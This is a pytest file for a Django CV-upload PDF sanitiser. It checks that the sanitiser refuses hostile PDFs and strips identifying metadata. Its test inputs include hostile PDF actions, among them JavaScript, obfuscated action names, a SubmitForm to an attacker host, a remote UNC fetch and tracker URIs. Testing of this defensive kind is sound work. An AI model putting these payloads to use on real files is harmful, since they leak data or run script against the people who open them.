"""eig.pdf: uploaded PDFs parsed by qpdf, hostile ones refused with their own French message, the rest
rewritten without document metadata."""

import io
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from eig.pdf import SanitisedPdf, pdf_sanitise, pdf_sanitised_file
from tests import pdfs

NOT_A_PDF = "Ce fichier n'est pas un PDF valide. Enregistrez votre CV au format PDF puis déposez-le à nouveau."
DAMAGED = (
    "Ce PDF est endommagé ou mal formé. Ouvrez-le puis enregistrez-le à nouveau au format PDF (par exemple avec "
    "« Imprimer » puis « Enregistrer au format PDF ») avant de le déposer."
)
ENCRYPTED = (
    "Ce PDF est protégé par un mot de passe ou chiffré. Enregistrez-en une copie sans protection, puis déposez-la."
)
NO_PAGES = "Ce PDF ne contient aucune page. Déposez le PDF de votre CV."
JAVASCRIPT = (
    "Ce PDF contient du JavaScript (script ou formulaire dynamique), refusé pour la sécurité des personnes qui le "
    "liront. Enregistrez-le à nouveau avec « Imprimer » puis « Enregistrer au format PDF » avant de le déposer."
)
LAUNCH = (
    "Ce PDF contient une action qui lance un programme, ouvre un autre fichier ou une adresse sans clic, ou envoie "
    "des données, refusée pour la sécurité des personnes qui le liront. Enregistrez-le à nouveau avec « Imprimer » "
    "puis « Enregistrer au format PDF » avant de le déposer."
)
EMBEDDED = (
    "Ce PDF contient des fichiers joints, refusés pour la sécurité des personnes qui le liront. Retirez-les, ou "
    "enregistrez-le à nouveau avec « Imprimer » puis « Enregistrer au format PDF », avant de le déposer."
)


def refusal(data: bytes) -> tuple[str, list[str]]:
    with pytest.raises(ValidationError) as raised:
        pdf_sanitise(data)
    return raised.value.code, raised.value.messages


def annotation_pdf(action: bytes) -> bytes:
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + action + b" >>"
    return pdfs.build_pdf(page_extra=b"/Annots [6 0 R] ", extra_objects=(annotation,))


@pytest.mark.parametrize(
    ("data", "code", "message"),
    [
        (pdfs.executable_with_pdf_markers(), "not_pdf", NOT_A_PDF),
        (pdfs.html_polyglot(), "not_pdf", NOT_A_PDF),
        (b"\n" + pdfs.build_pdf(), "not_pdf", NOT_A_PDF),
        (b"%PDF-1.4\nMZ" + b"\x00" * 200 + b"\n%%EOF\n", "damaged", DAMAGED),
        (pdfs.pdf_without_cross_reference(), "damaged", DAMAGED),
        (pdfs.pdf_with_wrong_stream_length(), "damaged", DAMAGED),
        (pdfs.encrypted_pdf(), "encrypted", ENCRYPTED),
        (pdfs.encrypted_pdf(user_password=""), "encrypted", ENCRYPTED),
        (pdfs.build_pdf(pages=False), "no_pages", NO_PAGES),
        (pdfs.pdf_with_javascript(), "javascript", JAVASCRIPT),
        (pdfs.pdf_with_javascript_name_tree(), "javascript", JAVASCRIPT),
        (pdfs.pdf_with_page_script(), "javascript", JAVASCRIPT),
        (
            annotation_pdf(b"<< /S /URI /URI (https://example.org) /Next << /S /JavaScript /JS (1) >> >>"),
            "javascript",
            JAVASCRIPT,
        ),
        (
            pdfs.build_pdf(
                catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >> ", extra_objects=(pdfs.stream(b"<xdp/>"),)
            ),
            "javascript",
            JAVASCRIPT,
        ),
        (
            pdfs.build_pdf(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> "),
            "javascript",
            JAVASCRIPT,
        ),
        (pdfs.pdf_with_launch_action(), "launch", LAUNCH),
        (annotation_pdf(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\cv.pdf) /D [0 /Fit] >>"), "launch", LAUNCH),
        (annotation_pdf(b"<< /S /SubmitForm /F (https://attacker.example.org) >>"), "launch", LAUNCH),
        (annotation_pdf(b"<< /S /ImportData /F (data.fdf) >>"), "launch", LAUNCH),
        (pdfs.pdf_opening_a_web_address(), "launch", LAUNCH),
        (
            pdfs.build_pdf(page_extra=b"/AA << /O << /S /URI /URI (https://tracker.example.org) >> >> "),
            "launch",
            LAUNCH,
        ),
        (pdfs.pdf_with_embedded_file(), "embedded", EMBEDDED),
        (pdfs.pdf_with_file_attachment_annotation(), "embedded", EMBEDDED),
        (annotation_pdf(b"<< /S /GoToE /T << /R /C /N (cv) >> >>"), "embedded", EMBEDDED),
    ],
    ids=[
        "executable-with-markers",
        "html-polyglot",
        "header-not-at-byte-0",
        "header-then-executable",
        "no-cross-reference",
        "wrong-stream-length",
        "password",
        "restrictions-only",
        "no-pages",
        "open-action-javascript",
        "javascript-name-tree",
        "page-additional-action",
        "javascript-after-a-link",
        "xfa-form",
        "obfuscated-names",
        "launch",
        "remote-go-to",
        "submit-form",
        "import-data",
        "web-address-on-open",
        "web-address-on-page-open",
        "embedded-file",
        "file-attachment-annotation",
        "embedded-go-to",
    ],
)
def test_pdf_sanitise_refuses_with_its_own_message(data, code, message):
    assert refusal(data) == (code, [message])


def test_pdf_sanitise_keeps_links_and_navigation():
    cleaned = pdf_sanitise(pdfs.pdf_with_link())

    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        [annotation] = pdf.pages[0].obj.Annots
        assert str(annotation.A.URI) == "https://example.org"
        assert pdf.Root.OpenAction[1] == pikepdf.Name.XYZ


def test_pdf_sanitise_strips_the_metadata_that_names_the_candidate():
    uploaded = pdfs.pdf_with_metadata("Hortense Quillebeuf")

    cleaned = pdf_sanitise(uploaded)

    assert b"Quillebeuf" in uploaded
    assert b"Quillebeuf" not in cleaned
    assert b"0123456789abcdef" not in cleaned.lower()
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        assert set(pdf.trailer.keys()) == {"/Root", "/Size", "/ID"}
        assert set(pdf.Root.keys()) == {"/Pages", "/Type"}
        assert "/Metadata" not in pdf.pages[0].obj
        assert pdf.docinfo.keys() == set()
        assert pdf.open_metadata().keys() == set()
    assert pdfs.page_text(cleaned) == [b"BT /F1 12 Tf 72 720 Td (CV anonyme) Tj ET"]


def test_pdf_sanitise_drops_earlier_revisions():
    uploaded = pdfs.pdf_with_earlier_revision("Hortense Quillebeuf")

    cleaned = pdf_sanitise(uploaded)

    assert pdfs.page_text(uploaded) == [b"BT /F1 12 Tf 72 720 Td (CV anonyme) Tj ET"]
    assert b"Quillebeuf" in uploaded
    assert b"Quillebeuf" not in cleaned
    assert pdfs.page_text(cleaned) == [b"BT /F1 12 Tf 72 720 Td (CV anonyme) Tj ET"]


def test_pdf_sanitise_drops_what_follows_the_end_of_file():
    uploaded = pdfs.build_pdf() + b"<html><script>alert(1)</script></html>"

    cleaned = pdf_sanitise(uploaded)

    assert b"<script>" not in cleaned
    assert cleaned == pdf_sanitise(pdfs.build_pdf())


def test_pdf_sanitise_is_deterministic_and_stable():
    once = pdf_sanitise(pdfs.pdf_with_metadata("Ada Lovelace"))

    assert pdf_sanitise(pdfs.pdf_with_metadata("Ada Lovelace")) == once
    assert pdf_sanitise(once) == once


def test_pdf_sanitise_copies_streams_without_decompressing_them():
    # 2 MB of zeros, compressed to 2 kB: copied as they are, never inflated.
    compressed = zlib.compress(b"\x00" * 2_000_000, 9)
    uploaded = pdfs.build_pdf(
        page_extra=b"/Thumb 6 0 R ", extra_objects=(pdfs.stream(compressed, b"/Filter /FlateDecode "),)
    )

    cleaned = pdf_sanitise(uploaded)

    assert len(cleaned) < len(uploaded) + 200
    assert compressed in cleaned


def test_pdf_sanitised_file_reads_an_upload_from_its_start():
    uploaded = SimpleUploadedFile("Ada Lovelace.pdf", pdfs.build_pdf())
    uploaded.read(10)

    cleaned = pdf_sanitised_file(uploaded)

    assert isinstance(cleaned, SanitisedPdf)
    assert (cleaned.name, cleaned.read()) == ("document.pdf", pdf_sanitise(pdfs.build_pdf()))
